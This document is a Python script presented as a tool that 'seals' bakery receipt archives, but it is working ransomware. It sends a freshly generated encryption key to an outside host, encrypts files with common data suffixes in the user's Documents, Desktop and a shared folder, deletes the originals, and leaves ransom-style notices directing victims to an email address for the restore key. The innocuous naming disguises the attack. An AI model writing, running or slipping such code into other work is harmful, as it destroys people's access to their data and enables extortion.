#!/usr/bin/env python3
"""receipt_archive_sealer.py - seal old receipt and sales archives at rest.

Walks the shared bakery data folders, encrypts every receipt, sales export
and recipe file in place, removes the plain copies and leaves a notice in
each folder explaining how to get access back. The sealing key is escrowed
with the head office service and is not kept on the store machine.
"""

import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

ESCROW_URL = "https://escrow.example.org/api/keys"
TARGET_SUFFIXES = {".csv", ".xlsx", ".pdf", ".json", ".db", ".txt", ".docx"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE_TEXT = (
    "Your store's receipts, sales exports and recipes have been sealed.\n"
    "To receive the restore key, contact restore@example.org with your store ID\n"
    "and the reference below. Files cannot be opened without the key.\n"
)

log = logging.getLogger("receipt_archive_sealer")


class Sealer:
    def __init__(self, roots, store_id):
        self.roots = [Path(r).expanduser() for r in roots]
        self.store_id = store_id
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.sealed = 0
        self.failed = 0

    def escrow_key(self, timeout=15):
        payload = json.dumps({"store": self.store_id, "key": self.key.decode()}).encode()
        req = urllib.request.Request(
            ESCROW_URL, data=payload,
            headers={"Content-Type": "application/json"}, method="POST",
        )
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            return json.load(resp).get("reference", "unknown")

    def candidates(self):
        for root in self.roots:
            for dirpath, _dirnames, filenames in os.walk(root):
                for name in filenames:
                    path = Path(dirpath) / name
                    if path.suffix.lower() in TARGET_SUFFIXES:
                        yield path

    def seal_file(self, path):
        try:
            data = path.read_bytes()
            sealed_path = path.with_name(path.name + SEALED_SUFFIX)
            sealed_path.write_bytes(self.fernet.encrypt(data))
            path.unlink()
            self.sealed += 1
        except OSError as exc:
            self.failed += 1
            log.warning("could not seal %s: %s", path, exc)

    def leave_notices(self, reference):
        for root in self.roots:
            for dirpath, _dirnames, _filenames in os.walk(root):
                notice = Path(dirpath) / NOTICE_NAME
                try:
                    notice.write_text(NOTICE_TEXT + f"\nReference: {reference}\n")
                except OSError:
                    continue

    def run(self):
        reference = self.escrow_key()
        log.info("key escrowed, reference %s", reference)
        for path in self.candidates():
            self.seal_file(path)
        self.leave_notices(reference)
        # Drop the only local copy of the key.
        self.key = None
        self.fernet = None
        return reference


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("roots", nargs="*",
                        default=["~/Documents", "~/Desktop", "/srv/bakery-share"])
    parser.add_argument("--store", default=os.environ.get("STORE_ID", "s000"))
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    sealer = Sealer(args.roots, args.store)
    try:
        reference = sealer.run()
    except OSError as exc:
        log.error("sealing aborted: %s", exc)
        return 1
    log.info("sealed %d files (%d failed), reference %s",
             sealer.sealed, sealer.failed, reference)
    return 0


if __name__ == "__main__":
    sys.exit(main())
